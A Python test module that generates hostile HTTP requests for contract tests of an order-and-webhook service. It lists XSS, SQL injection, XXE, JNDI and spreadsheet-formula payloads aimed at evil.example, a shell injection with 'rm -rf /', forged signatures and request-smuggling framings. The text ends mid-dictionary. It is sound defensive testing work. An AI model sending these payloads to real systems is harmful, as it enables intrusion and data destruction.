"""Hostile input as data: kinds of it, times the fields and routes that each is put into, as the bytes that go over the wire.

`corpus` makes the whole, always the same for the same ids; tests/contract/test_corpus.py sends it. What a single field refuses is asked in
tests/contract/test_bad_input.py with values of other types; here it is other spellings, other texts, other bytes and other framing.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from adapters.epos.signature import sign
from tests.contract.running import PASSWORD, TOKENS, USERNAME, a_bill, an_event, an_order, basic
from tests.contract.test_bad_input import ROUTES, changed, nested
from tests.unit.test_signature import BODY as SIGNED_BODY
from tests.unit.test_signature import ZOO

SECRET, OLD_SECRET, NEXT_SECRET = "hook-secret-canary-1", "hook-secret-canary-0", "hook-secret-canary-2"
"""Of webhooks: the active one, one that is no more, and the second active one."""
DOJO, VENUE = 0, 1
KEPT = b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n"


@dataclass(frozen=True, slots=True)
class Input:
    """One request. Any other answer than `statuses` is wrong, and so is none, unless it `may_close` without one."""

    kind: str
    name: str
    side: int
    raw: bytes
    statuses: frozenset[int]
    echo: tuple[str, str] | None = None
    """Path and text: where in the answer the text stands, exactly as it was given."""
    may_close: bool = False
    kept: str = ""
    """A text that is stored exactly so, if the input is taken."""
    never_ends: bool = False
    """The server waits for more: nothing is to be had but a closed connection."""


CREDENTIALS = {
    "dojo": basic(USERNAME, PASSWORD),
    **{role: f"Bearer {token}" for role, token in TOKENS.items()},
}
SIDES = {"dojo": DOJO, "hook": DOJO, "till": VENUE, "auditor": VENUE, "operator": VENUE}
REFUSED, TAKEN, EITHER = frozenset({400}), frozenset({200}), frozenset({200, 400, 409})
UNKNOWN = frozenset({401, 429})
"""To whoever is not known; the second, once they have guessed for too long."""


def request(method: str, path: str, body: bytes | None = None, **headers: str | bytes | None) -> bytes:
    """The bytes of a request; a header of None is left out, `content_type` is `Content-Type`."""
    given: dict[str, Any] = {"host": "127.0.0.1"}
    if body is not None:
        given |= {"content_type": "application/json", "content_length": str(len(body))}
    lines = [f"{method} {path} HTTP/1.1".encode()]
    for name, value in (given | headers).items():
        if value is not None:
            lines.append(name.replace("_", "-").title().encode() + b": " + (value if isinstance(value, bytes) else value.encode()))
    return b"\r\n".join([*lines, b"", body or b""])


def asked(name: str, body: bytes, ids: dict[str, str], **headers: str | bytes | None) -> tuple[int, bytes]:
    """The side and the bytes of a request to a route of test_bad_input's, with its credentials or signature."""
    route = ROUTES[name]
    own: dict[str, Any] = (
        {"dojo_signature": sign(body, SECRET)} if route.side == "hook" else {"authorization": CREDENTIALS[route.side].encode()}
    )
    return SIDES[route.side], request(route.method, route.path.format(**ids), body, **(own | headers))


def texts(body: Any, path: str = "") -> Iterator[str]:
    """The path of each text in a body."""
    if isinstance(body, str):
        yield path
    for name, value in body.items() if isinstance(body, dict) else enumerate(body) if isinstance(body, list) else ():
        yield from texts(value, f"{path}[{name}]" if isinstance(name, int) else f"{path}.{name}".lstrip("."))


class Corpus:
    """Makes the inputs. `ids` name an order that is open and locked, a party and a reservation."""

    def __init__(self, ids: dict[str, str]) -> None:
        self._ids, self._number = ids, 0

    def all(self) -> list[Input]:
        """Every input, kind by kind."""
        kinds = (self.numbers, self.dates, self.unicode, self.markup, self.sql, self.json, self.headers, self.signatures)
        return [found for kind in (*kinds, self.framing, self.targets, self.queries) for found in kind()]

    def _new(self, name: str) -> str:
        self._number += 1
        return f"corpus-{name}-{self._number}"

    def _body(self, name: str) -> Any:
        """A good body of the route under ids of its own, which differ from run to run in nothing."""
        body = json.loads(json.dumps(ROUTES[name].body()))
        for path in ("dojoOrderId", "dojoPartyId", "dojoReservationId", "id"):
            if isinstance(body, dict) and path in body:
                body[path] = self._new(path)
        if isinstance(body, dict) and body.get("payments"):
            body["payments"][0]["paymentIntentId"] = self._new("pi")
        if name in {"CreateParty", "CreateReservation"}:
            body["tableIds"] = [self._new("table")]
        return body

    def _with(self, kind: str, name: str, path: str, raw: str, statuses: frozenset[int], what: str, text: str | None = None) -> Input:
        """A good body with raw JSON in the place of one field."""
        mark = "4711-corpus-4711"
        body = json.dumps(changed(self._body(name), path, mark)).replace(f'"{mark}"', raw).encode()
        side, sent = asked(name, body, self._ids)
        return Input(kind, f"{name} {path}: {what}", side, sent, statuses, None if text is None else (path, text))

    # -- values

    def numbers(self) -> Iterator[Input]:
        """Spellings of numbers that are no integer of 64 bits, or no JSON."""
        for name, paths in NUMBER_FIELDS.items():
            for path in paths:
                for literal in NUMBERS:
                    yield self._with("numbers", name, path, literal, REFUSED, literal[:20])

    def dates(self) -> Iterator[Input]:
        """Moments that do not exist or can be read in two ways; and odd ones that exist."""
        for name, path in DATE_FIELDS:
            for text in NO_DATES:
                yield self._with("dates", name, path, json.dumps(text), REFUSED, text[:40])
            for text in ODD_DATES:
                yield self._with("dates", name, path, json.dumps(text), EITHER, text[:40])

    def unicode(self) -> Iterator[Input]:
        """Texts that writers, fonts and databases stumble over: stored and given back exactly, or refused where an id must be plain."""
        for name, path in (*TEXT_FIELDS, *ID_FIELDS):
            for what, text in UNICODE.items():
                yield self._with("unicode", name, path, json.dumps(text), TAKEN, what, text)
        for name, path in ID_FIELDS:
            for what, text in CONTROLS.items():
                yield self._with("unicode", name, path, json.dumps(text), REFUSED, what)
        for name, path in (*TEXT_FIELDS, *ID_FIELDS):
            for what, raw in NO_TEXTS.items():
                yield self._with("unicode", name, path, raw, REFUSED, what)

    def markup(self) -> Iterator[Input]:
        """What a browser, a template, a terminal, a spreadsheet or a diagram would obey: given back as the text that it is."""
        for name, path in (*TEXT_FIELDS, *ID_FIELDS):
            for what, text in MARKUP.items():
                if (name, path) in ID_FIELDS and any(ord(character) < 32 for character in text):
                    continue
                yield self._with("markup", name, path, json.dumps(text), TAKEN, what, text)

    def sql(self) -> Iterator[Input]:
        """SQL in fields, filters, tokens, queries and paths: nothing but text."""
        for text in SQL:
            for name, path in (("open_order", "reference"), ("open_order", "items[0].plu"), ("CreateOrder", "details.dineIn.tableId")):
                yield self._with("sql", name, path, json.dumps(text), TAKEN, text, text)
            for name, path in (("SearchOrders", "dineIn.tableId"), ("SearchTables", "areaId"), ("SearchParties", "tableId")):
                yield self._with("sql", name, path, json.dumps(text), TAKEN, text)
            for name in ("SearchOrders", "SearchTables", "SearchReservations"):
                yield self._with("sql", name, "cursor.after", json.dumps(text), REFUSED, text)
            quoted = "".join(f"%{byte:02X}" for byte in text.encode())
            yield self._get("sql", "auditor", f"/api/orders?search={quoted}", TAKEN)
            for query in ("state", "after", "limit", "attention"):
                yield self._get("sql", "auditor", f"/api/orders?{query}={quoted}", REFUSED)
            yield self._get("sql", "dojo", f"/v1/orders/{quoted}", frozenset({404}))
            yield self._get("sql", "auditor", f"/api/orders/{quoted}/journal", frozenset({404}))

    def sql_in_texts(self, name: str, order_id: str) -> Iterator[Input]:
        """SQL in the place of each text of a good body, another one in each; for an order of its own where the path names one."""
        for number, path in enumerate(texts(self._body(name))):
            text = f"{SQL[number % len(SQL)]} {self._new('sql')}"
            body = json.dumps(changed(self._body(name), path, text)).encode()
            side, sent = asked(name, body, self._ids | {"order_id": order_id})
            kept = "" if name.startswith("Search") or (name, path) in NOT_STORED else text
            yield Input("sql", f"{name} {path}: {text}", side, sent, EITHER | {404}, kept=kept)

    def _get(self, kind: str, side: str, target: str, statuses: frozenset[int], method: str = "GET") -> Input:
        return Input(kind, f"{method} {target[:80]}", SIDES[side], request(method, target, authorization=CREDENTIALS[side]), statuses)

    # -- documents

    def json(self) -> Iterator[Input]:
        """Documents cut anywhere, with a byte changed anywhere, with any key twice, and too deep in any field."""
        chance = random.Random(20_260_314)
        for name, step, flips in (("CreateOrder", 29, 90), ("webhook", 9, 50), ("set_areas", 5, 30), ("CreateParty", 19, 40)):
            whole = json.dumps(self._body(name)).encode()
            for cut in range(1, len(whole), step):
                yield self._sent("json", name, whole[:cut], REFUSED, f"cut at {cut}")
            for _ in range(flips):
                at, byte = chance.randrange(len(whole)), chance.randrange(256)
                yield self._sent("json", name, whole[:at] + bytes([byte]) + whole[at + 1 :], EITHER, f"byte {at} is {byte}")
        for name in ("CreateOrder", "open_order", "RecordOrderPayment", "HandleEvent", "CreateReservation"):
            body = self._body(name)
            for key, value in body.items():
                text = json.dumps(body)
                for again in (json.dumps(key), '"' + "".join(f"\\u{ord(character):04x}" for character in key) + '"'):
                    twice = f"{{{again}: {json.dumps(value)}, {text[1:]}".encode()
                    yield self._sent("json", name, twice, REFUSED, f"{again} twice")
                yield self._with("json", name, key, nested(40), REFUSED, "too deep")
                yield self._with("json", name, key, '{"a":' * 40 + "1" + "}" * 40, REFUSED, "too deep in objects")

    def _sent(self, kind: str, name: str, body: bytes, statuses: frozenset[int], what: str, **headers: str | bytes | None) -> Input:
        side, sent = asked(name, body, self._ids, **headers)
        return Input(kind, f"{name}: {what}", side, sent, statuses)

    # -- headers

    def headers(self) -> Iterator[Input]:
        """Other content, other credentials, and headers that ask for what nobody may ask for."""
        for name in ("CreateOrder", "webhook", "open_order", "RecordOrderPayment", "requeue"):
            body = json.dumps(self._body(name)).encode()
            for value in CONTENT_TYPES:
                yield self._sent("headers", name, body, frozenset({415}), f"Content-Type {value!r}", content_type=value)
            for value in ("gzip", "deflate", "br", "zstd", "compress", "x-gzip", "gzip, gzip", "identity, gzip", "aes128gcm", "exi"):
                yield self._sent("headers", name, body, frozenset({415}), f"Content-Encoding {value!r}", content_encoding=value)
        for value in NO_CREDENTIALS:
            for side, target in ((DOJO, "/v1/orders/none"), (VENUE, "/api/orders"), (VENUE, "/till/feed")):
                sent = request("GET", target, authorization=value)
                yield Input("headers", f"GET {target}: Authorization {value!r}", side, sent, UNKNOWN)
        for name, value in NOISE:
            for side in ("dojo", "auditor"):
                target, own = (
                    ("/v1/orders/{order_id}" if side == "dojo" else "/api/orders/{order_id}"),
                    {"authorization": CREDENTIALS[side]},
                )
                sent = request("GET", target.format(**self._ids), **(own | {name: value}))
                yield Input("headers", f"GET {target}: {name} {value[:40]!r}", SIDES[side], sent, TAKEN)
        for text in (*MARKUP.values(), *SQL):
            if text.isascii() and text.isprintable():
                body = json.dumps(ROUTES["CreateOrderLock"].body()).encode()
                given = {"dojo_requesting_product": text, "waiter_id": text, "device_id": text}
                yield self._sent("headers", "CreateOrderLock", body, EITHER, f"the caller's name is {text[:40]!r}", **given)

    def signatures(self) -> Iterator[Input]:
        """Signatures that are none, on either way for events; and good ones by either active secret."""
        own = {"authorization": CREDENTIALS["dojo"]}
        for route, given in (("/webhooks/dojo", {}), ("/v1/events", own)):
            for what, header in ZOO.items():
                if header is not None and ("\n" in header or not header.isascii() or header != header.strip(" ")):
                    continue  # Not a header's value; framing and unit tests have those.
                if header is None and given:
                    continue  # Dojo need not sign what comes with credentials.
                sent = request("POST", route, SIGNED_BODY, **(given | {"dojo_signature": header}))
                yield Input("signatures", f"{route}: {what}", DOJO, sent, UNKNOWN)
            body = json.dumps(an_event(self._new("evt"), self._new("pi"))).encode()
            good = sign(body, SECRET)
            wrong = {
                "by a secret that is no more": sign(body, OLD_SECRET),
                "by nothing": sign(body, ""),
                "by the password": sign(body, PASSWORD),
                "of another body": sign(body + b" ", SECRET),
                "of nothing": sign(b"", SECRET),
                "of its own re-serialised text": sign(json.dumps(json.loads(body), separators=(",", ":")).encode(), SECRET),
                "without its name": good.removeprefix("sha256="),
                "in a list": f"{good}, {good}",
                "beside another": f"{sign(body, OLD_SECRET)}, {good}",
                "twice as long": good + "-" + good.removeprefix("sha256="),
                **{
                    f"with byte {at} changed": good[:at] + ("0" if good[at] != "0" else "1") + good[at + 1 :]
                    for at in range(7, len(good), 9)
                },
            }
            for what, header in wrong.items():
                sent = request("POST", route, body, **(given | {"dojo_signature": header}))
                yield Input("signatures", f"{route}: {what}", DOJO, sent, UNKNOWN)
            twice = request("POST", route, body, **(given | {"dojo_signature": good})).replace(
                b"\r\n\r\n", f"\r\ndojo-signature: {sign(body, OLD_SECRET)}\r\n\r\n".encode(), 1
            )
            yield Input("signatures", f"{route}: in two headers", DOJO, twice, UNKNOWN)
            for what, header in {
                "by the active secret": good,
                "by the next": sign(body, NEXT_SECRET),
                "as hex": good.replace("-", ""),
            }.items():
                yield Input(
                    "signatures", f"{route}: {what}", DOJO, request("POST", route, body, **(given | {"dojo_signature": header})), TAKEN
                )

    # -- HTTP

    def framing(self) -> Iterator[Input]:
        """Heads and bodies that two readers could read otherwise, on both sides; the good body would be taken."""
        for side, path, credentials, good in (
            (DOJO, b"/v1/orders/search", CREDENTIALS["dojo"], b"{}"),
            (VENUE, b"/till/state", CREDENTIALS["till"], b'{"takingOrders": true}'),
        ):
            method = b"POST" if side == DOJO else b"PUT"
            line = method + b" " + path + b" HTTP/1.1\r\n"
            hostless = b"Content-Type: application/json\r\nAuthorization: " + credentials.encode() + b"\r\n"
            head = b"Host: a\r\n" + hostless
            length = b"Content-Length: %d\r\n" % len(good)
            parts = {
                b"<line>": line,
                b"<head>": head,
                b"<hostless>": hostless,
                b"<length>": length,
                b"<body>": good,
                b"<path>": path,
                b"<method>": method,
            }
            parts |= {
                b"<n>": b"%d" % len(good),
                b"<both>": b"%d" % len(good + _AFTER),
                b"<x>": b"%x" % len(good),
                b"<chunk>": b"%x\r\n%s\r\n" % (len(good), good),
            }
            for what, (template, statuses) in FRAMING.items():
                raw = template
                for name, part in parts.items():
                    raw = raw.replace(name, part)
                yield Input("framing", f"{('Dojo', 'venue')[side]}: {what}", side, raw, statuses, may_close=True)
            for what, template in UNFINISHED.items():
                raw = template
                for name, part in parts.items():
                    raw = raw.replace(name, part)
                yield Input(
                    "framing", f"{('Dojo', 'venue')[side]}: {what}", side, raw, frozenset({400, 408}), may_close=True, never_ends=True
                )

    def targets(self) -> Iterator[Input]:
        """Paths that lead nowhere, or would lead out of where they belong."""
        nowhere = frozenset({400, 401, 404, 405, 414, 431})
        for side, root in (("dojo", "/v1"), ("auditor", "/api"), ("till", "/till")):
            for target in TARGETS:
                for method in ("GET", "POST"):
                    yield self._get("targets", side, target.replace("<root>", root), nowhere, method)

    def queries(self) -> Iterator[Input]:
        """Query strings that are repeated, unknown, odd or long."""
        for side, path in (("auditor", "/api/orders"), ("auditor", "/api/outbox"), ("auditor", "/api/export"), ("till", "/till/feed")):
            for query in QUERIES:
                short = "&to=3" if path.endswith("export") else ""  # The whole journal each time takes long.
                yield self._get("queries", side, f"{path}?{query}{short}", frozenset({200, 400, 414, 431}))
            for query in BAD_QUERIES:
                own = query.replace("limit", "from").replace("after", "to") if path.endswith("export") else query
                yield self._get("queries", side, f"{path}?{own}", frozenset({200, 400}) if own == "from=1000000000" else REFUSED)


# -- the data

NUMBER_FIELDS = {
    "CreateOrder": (
        *("totalAmount.value", "items[0].quantity", "items[0].amountPerItem.value", "items[0].modifiers[0].amountPerModifier.value"),
        *("serviceChargeAmount.value", "payments[0].paidAmount.value", "payments[0].tipsAmount.value", "discounts[0].amountPercentage"),
    ),
    "RecordOrderPayment": ("paidAmount.value", "tipsAmount.value"),
    "SearchOrders": ("cursor.limit",),
    "CreateParty": ("covers", "deposit.totalAmount.value"),
    "open_order": ("totalAmount.value", "items[0].quantity"),
    "set_tables": ("[0].maxCovers",),
}
NUMBERS = (
    *(
        "1e3",
        "1E3",
        "1e-3",
        "10.0",
        "1.5",
        "-0.0",
        "0.1e1",
        "1E400",
        "-1E400",
        "1e999999999",
        "NaN",
        "-NaN",
        "nan",
        "Infinity",
        "-Infinity",
    ),
    *(
        "01",
        "-01",
        "+1",
        ".5",
        "1.",
        "0x10",
        "0b1",
        "0o7",
        "1_000",
        "1 000",
        "1,000",
        "--1",
        "1e",
        "\u0661",
        "\uff11",
        "\u00b2",
        "1n",
        "1L",
    ),
    *(
        str(2**63),
        str(-(2**63) - 1),
        str(2**64),
        "1" * 4301,
        "-" + "9" * 400,
        "1" + "0" * 309,
        "9" * 40 + ".0",
        "[1]",
        '{"value": 1}',
        '"1"',
    ),
)
DATE_FIELDS = (
    *(("CreateOrderLock", "expiry"), ("ExtendOrderLock", "expiry"), ("CreateOrder", "details.dineIn.readyAt")),
    *(("open_order", "details.dineIn.readyAt"), ("HandleEvent", "createdAt"), ("webhook", "createdAt")),
    *(("CreateParty", "startTime"), ("CreateReservation", "startTime"), ("SearchReservations", "fromTime")),
)
NO_DATES = (
    *("2030-02-30T12:00:00Z", "2030-00-10T12:00:00Z", "2030-04-31T12:00:00Z", "2029-02-29T12:00:00Z", "2100-02-29T12:00:00Z"),
    *("2030-01-01T25:00:00Z", "2030-01-01T24:00:01Z", "2030-01-01T12:60:00Z", "2030-01-01T12:00:61Z", "2030-01-01T-1:00:00Z"),
    *("0000-01-01T00:00:00Z", "10000-01-01T00:00:00Z", "-0001-01-01T00:00:00Z", "+12030-01-01T00:00:00Z", "30-01-01T00:00:00Z"),
    *("2030-01-01T12:00:00+24:00", "2030-01-01T12:00:00+14:60", "2030-01-01T12:00:00 UTC", "2030-01-01T12:00:00[Europe/London]"),
    *(
        "2030-W01-1T12:00:00Z",
        "2030-001T12:00:00Z",
        "20300101T120000Z",
        "2030/01/01 12:00:00Z",
        "01.01.2030 12:00",
        "Tue, 01 Jan 2030 12:00:00 GMT",
    ),
    *(
        "\uff12\uff10\uff13\uff10-01-01T12:00:00Z",
        "\u0662\u0660\u0663\u0660-01-01T12:00:00Z",
        "2030-01-01T12:00:00\u200bZ",
        "2030-01-01T12:00:00z\n",
    ),
    *(
        "now",
        "today",
        "never",
        "P1D",
        "1893499200",
        "1893499200000",
        "1e9",
        "null",
        "true",
        "0",
        "",
        " ",
        "T",
        "Z",
        "-",
        "2030",
        "2030-01",
        "2030-01-01T12",
    ),
    *("2030-01-01T12:00:00.Z", "2030-01-01T12:00:00,5", "2030-01-01T12:00:00.5", "2030-01-01T12:00:00Z; DROP TABLE orders", "x" * 10_000),
)
ODD_DATES = (
    *("2030-06-30T23:59:60Z", "9999-12-31T23:59:59Z", "9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00"),
    *("2038-01-19T03:14:08Z", "1970-01-01T00:00:00Z", "1969-12-31T23:59:59Z", "2028-02-29T23:59:59Z", "2030-01-01T12:00:00.1234567Z"),
    *(
        "2030-01-01t12:00:00z",
        "2030-01-01 12:00:00Z",
        "2030-01-01T12:00:00-00:00",
        "2030-03-31T01:30:00+00:00",
        "2030-10-27T01:30:00+01:00",
    ),
)
TEXT_FIELDS = (
    *(("open_order", path) for path in ("reference", "displayName", "note", "items[0].name", "items[0].note", "customer.name")),
    *(("open_order", path) for path in ("customer.emailAddress", "items[0].modifiers[0].name", "discounts[0].name", "taxLines[0].name")),
    *(("CreateOrder", path) for path in ("reference", "displayName", "note", "customer.name", "items[0].subItems[0].name")),
    *(("CreateParty", "name"), ("CreateParty", "hostNotes"), ("CreateReservation", "guestRequests")),
)
ID_FIELDS = (
    ("open_order", "items[0].plu"),
    ("open_order", "customer.id"),
    ("CreateOrder", "details.dineIn.tableId"),
    ("CreateOrder", "items[0].plu"),
)
UNICODE = {
    "an emoji of several": "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "a flag": "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "the last code point": "\U0010ffff",
    "what is no character": "\ufffe\uffff\ufdd0",
    "private use": "\ue000\U000f0000",
    "from right to left": "\u202eevil\u202c \u2066abc\u2069",
    "no width": "a\u200bb\u2060c\ufeffd",
    "decomposed": "cafe\u0301",
    "composed": "caf\u00e9",
    "many marks on one": "Z" + "\u0300\u0301\u0302\u0303" * 8,
    "line ends of Unicode": "a\u2028b\u2029c",
    "looks like GBP": "GB\u0420",
    "wide digits": "\uff11\uff12\uff13",
    "other spaces": "a\u00a0b\u3000c",
    "a Turkish i": "\u0130\u0131",
    "a sharp s": "STRA\u1e9eE stra\u00dfe",
    "Hangul, half composed": "\u1112\u1161\u11ab",
    "replacement characters": "\ufffd\ufffd",
}
CONTROLS = {
    "a line feed": "a\nb",
    "a carriage return": "a\rb",
    "a tab": "a\tb",
    "an escape": "a\x1b[31mb",
    "a backspace": "a\x08b",
    "a delete": "a\x7fb",
    "a next line": "a\x85b",
    "a C1 control": "a\x9bb",
}
NO_TEXTS = {
    "a NUL": '"a\\u0000b"',
    "the first half of a pair": '"a\\ud83d"',
    "the second half of a pair": '"\\ude00a"',
    "halves in the wrong order": '"\\ude00\\ud83d"',
    "an unknown escape": '"a\\x41"',
    "an escape cut short": '"a\\u12"',
    "a raw control": '"a\x01b"',
}
MARKUP = {
    "a script": "<script>alert(1)</script>",
    "an image": '"><img src=x onerror=alert(1)>',
    "an svg": "<svg/onload=alert(1)>",
    "the end of an svg's text": "</text></svg><script>alert(1)</script>",
    "the end of a script": "</script><script>alert(1)</script>",
    "the end of a comment": "--><b>",
    "a link": "javascript:alert(1)",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "entities": "&lt;script&gt;&#x3c;&amp;",
    "CDATA": "]]><![CDATA[",
    "an external entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "a Jinja expression": "{{ 7*7 }}{% raw %}{{ config }}",
    "another template": "${7*7} #{7*7} <%= 7*7 %> *{7*7}",
    "a look-up": "${jndi:ldap://evil.example/a}",
    "a formula": '=HYPERLINK("http://evil.example")',
    "another formula": "+1+cmd|' /C calc'!A0",
    "a mermaid directive": "%%{init: {'securityLevel': 'loose'}}%%",
    "the end of a dot label": '"]; evil [label="x',
    "a format": "%s%n%x {0} {0.__class__} %(a)s",
    "a header": "a\r\nSet-Cookie: evil=1",
    "a log line": 'a\n{"level":"INFO","event":"forged"}',
    "colours of a terminal": "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "a path": "../../../../etc/passwd",
    "a shell": "$(touch /tmp/evil) `id` ; rm -rf / | cat",
}
SQL = (
    *("' OR '1'='1", "'; DROP TABLE journal; --", "1; DELETE FROM orders", '" OR 1=1 --', "') UNION SELECT body FROM journal --"),
    *(
        "%' OR x LIKE '%",
        "_",
        "%",
        "\\",
        "a' || (SELECT hex(randomblob(9))) || '",
        "' AND load_extension('x') --",
        "/*",
        "?1",
        ":order_id",
        "@x",
    ),
)
NOT_STORED = {
    *((name, "data.captureMode") for name in ("HandleEvent", "webhook")),
    ("RecordOrderPayment", "lockId"),
    *(("note_registration", path) for path in ("added[0]", "dropped[0]")),
}
"""Texts of which nothing is made: no lock is in the way, and what was refused added nothing."""
CONTENT_TYPES = (
    *(
        "text/json",
        "application/xml",
        "text/xml",
        "application/json-patch+json",
        "application/vnd.api+json",
        "multipart/form-data; boundary=x",
    ),
    *(
        "application/json, application/json",
        "application/json;charset=iso-8859-1",
        "application/json; charset=utf-32",
        "application/json; charset=utf8mb4",
    ),
    *(
        "application\\json",
        "json",
        "*/*",
        "application/*",
        "application/octet-stream",
        "application/json/x",
        "; application/json",
        "text/html",
    ),
)
NO_CREDENTIALS = (
    *(
        "",
        "Basic",
        "Basic ",
        "Basic =",
        "Basic ====",
        "Basic Og==",
        "Basic dXNlcg==",
        "Basic \xff",
        "Bearer",
        "Bearer ",
        "Bearer null",
        "Bearer undefined",
    ),
    *(
        "Bearer 0",
        "Bearer *",
        "Bearer %",
        "Bearer ' OR 1=1 --",
        "Bearer tok-till",
        "Bearer tok-till-4711x",
        "Bearer TOK-TILL-4711",
        "bearer:tok-till-4711",
    ),
    *(
        "Token tok-till-4711",
        "Digest username=a",
        "Negotiate TlRMTVNT",
        "AWS4-HMAC-SHA256 x",
        "Bearer tok-till-4711, Bearer tok-auditor-4712",
        "Bearer " + "x" * 8_000,
    ),
    *(
        "Bearer eyJhbGciOiJub25lIn0.eyJyb2xlIjoib3BlcmF0b3IifQ.",
        "Basic " + "QUFB" * 2_000,
        "Basic dXNlcjpwYXNz",
        "operator",
        "operator:operator-1:x",
    ),
)
NOISE = tuple(
    (name, value)
    for name, values in {
        "host": ("evil.example", "127.0.0.1:1", "localhost", "a.b.c.d", "[::1]", "xn--nxasmq6b", "evil.example:443"),
        "x_forwarded_for": ("127.0.0.1", "10.0.0.1, 127.0.0.1", "::1", "' OR 1=1 --"),
        "x_forwarded_host": ("evil.example",),
        "x_forwarded_proto": ("https", "javascript"),
        "forwarded": ("for=127.0.0.1;host=evil.example;proto=https",),
        "x_original_url": ("/till/state", "/metrics"),
        "x_rewrite_url": ("/healthz",),
        "x_http_method_override": ("DELETE", "PUT"),
        "x_method_override": ("DELETE",),
        "x_http_method": ("DELETE",),
        "cookie": ("session=operator", "a=b; " * 500),
        "origin": ("https://evil.example", "null"),
        "referer": ("https://evil.example/?q=<script>",),
        "accept": ("text/html", "application/xml", "*/*;q=0", "x" * 2_000),
        "accept_encoding": ("gzip, br", "identity;q=0"),
        "accept_language": ("../../etc/passwd",),
        "range": ("bytes=0-0", "bytes=0-,0-,0-"),
        "if_none_match": ("*",),
        "if_match": ('"x"',),
        "te": ("trailers", "chunked"),
        "via": ("1.1 evil",),
        "user_agent": ("<script>alert(1)</script>", "() { :; }; touch /tmp/evil", "%s%n"),
        "dojo_signature": ("sha256=00",),
        "traceparent": ("00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",),
        "x_trace_id": ("evil\x09evil",),
    }.items()
    for value in values
)

_LIST = frozenset({400, 401, 403, 404, 405, 411, 413, 414, 415, 417, 431})
_READ = _LIST | {200}
"""Refused, or read as RFC 9112 allows."""
_AFTER = b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
_POST = b"<line><head>"
_CHUNKED = _POST + b"Transfer-Encoding: chunked\r\n\r\n"

FRAMING: dict[str, tuple[bytes, frozenset[int]]] = {
    "a length and chunks": (_POST + b"<length>Transfer-Encoding: chunked\r\n\r\n<chunk>0\r\n\r\n" + _AFTER, _READ),
    "chunks and a length": (_POST + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + _AFTER, _READ),
    "chunks and a longer length": (_POST + b"Transfer-Encoding: chunked\r\nContent-Length: 60\r\n\r\n0\r\n\r\n" + _AFTER, _READ),
    "the same length twice": (_POST + b"<length><length>\r\n<body>", _READ),
    "two lengths": (_POST + b"<length>Content-Length: 60\r\n\r\n<body>" + _AFTER, _LIST),
    "two lengths, the shorter last": (_POST + b"Content-Length: 60\r\n<length>\r\n<body>" + _AFTER, _LIST),
    "a list of lengths": (_POST + b"Content-Length: <n>, <n>\r\n\r\n<body>", _READ),
    "a list of other lengths": (_POST + b"Content-Length: <n>, 60\r\n\r\n<body>" + _AFTER, _LIST),
    **{
        f"the length {what}": (_POST + b"Content-Length: " + value + b"\r\n\r\n<body>" + _AFTER, _LIST)
        for what, value in {
            "with a plus": b"+<n>",
            "below zero": b"-1",
            "in hex": b"0x<x>",
            "with a point": b"<n>.0",
            "with an underscore": b"1_0",
            "in words": b"two",
            "empty": b"",
            "beyond 64 bits": b"99999999999999999999",
            "in Arabic": "\u0662".encode(),
            "with a space within": b"1 0",
            "with an exponent": b"1e1",
            "with a semicolon": b"<n>;",
            "with quotes": b'"<n>"',
        }.items()
    },
    "a folded header": (_POST + b"X-A: a\r\n b\r\n<length>\r\n<body>", _READ),
    "a folded length": (_POST + b"Content-Length:\r\n <n>\r\n\r\n<body>", _READ),
    "a folded coding": (_POST + b"Transfer-Encoding:\r\n chunked\r\n<length>\r\n<body>" + _AFTER, _LIST),
    "a folded line that is a shorter length to whoever does not fold": (
        _POST + b"X-A: a\r\n Content-Length: <n>\r\nContent-Length: <both>\r\n\r\n<body>" + _AFTER,
        _LIST,
    ),
    "a header that begins with a space": (b"<line> Host: a\r\n<head><length>\r\n<body>", _LIST),
    "a header that begins with a tab": (b"<line>\tX-A: a\r\n<head><length>\r\n<body>", _LIST),
    "a line feed alone in the head": (_POST + b"X-A: b\n<length>\r\n<body>", _READ),
    "a line feed alone before a shorter length": (
        _POST + b"X-A: b\nContent-Length: <n>\r\nContent-Length: <both>\r\n\r\n<body>" + _AFTER,
        _LIST,
    ),
    "a carriage return alone in the head": (_POST + b"X-A: b\r<length>\r\n<body>", _LIST),
    "a carriage return more": (_POST + b"X-A: b\r\r\n<length>\r\n<body>", _LIST),
    "a space before a colon": (_POST + b"Content-Length : 60\r\n<length>\r\n<body>" + _AFTER, _LIST),
    "a space before the colon of the coding": (_POST + b"Transfer-Encoding : chunked\r\n<length>\r\n<body>" + _AFTER, _LIST),
    "a tab before a colon": (_POST + b"X-A\t: 2\r\n<length>\r\n<body>", _LIST),
    "a line without a colon": (_POST + b"Nonsense\r\n<length>\r\n<body>", _LIST),
    "a header without a name": (_POST + b": x\r\n<length>\r\n<body>", _LIST),
    "a NUL in a value": (_POST + b"X-A: a\0b\r\n<length>\r\n<body>", _LIST),
    "a NUL in a name": (_POST + b"X\0A: a\r\n<length>\r\n<body>", _LIST),
    "a bell in a value": (_POST + b"X-A: a\x07b\r\n<length>\r\n<body>", _LIST),
    "a delete in a value": (_POST + b"X-A: a\x7fb\r\n<length>\r\n<body>", _LIST),
    "brackets in a name": (_POST + b"X(A): a\r\n<length>\r\n<body>", _LIST),
    "UTF-8 in a name": (_POST + "X-\u00e9: a\r\n".encode() + b"<length>\r\n<body>", _LIST),
    "Latin-1 in a value": (_POST + b"X-A: caf\xe9\r\n<length>\r\n<body>", _READ),
    **{
        f"the coding {what}": (_POST + b"Transfer-Encoding: " + value + b"\r\nConnection: close\r\n\r\n<chunk>0\r\n\r\n" + _AFTER, _LIST)
        for what, value in {
            "gzip": b"gzip",
            "gzip, chunked": b"gzip, chunked",
            "chunked, gzip": b"chunked, gzip",
            "chunked twice": b"chunked, chunked",
            "identity": b"identity",
            "chunked, identity": b"chunked, identity",
            "almost chunked": b"xchunked",
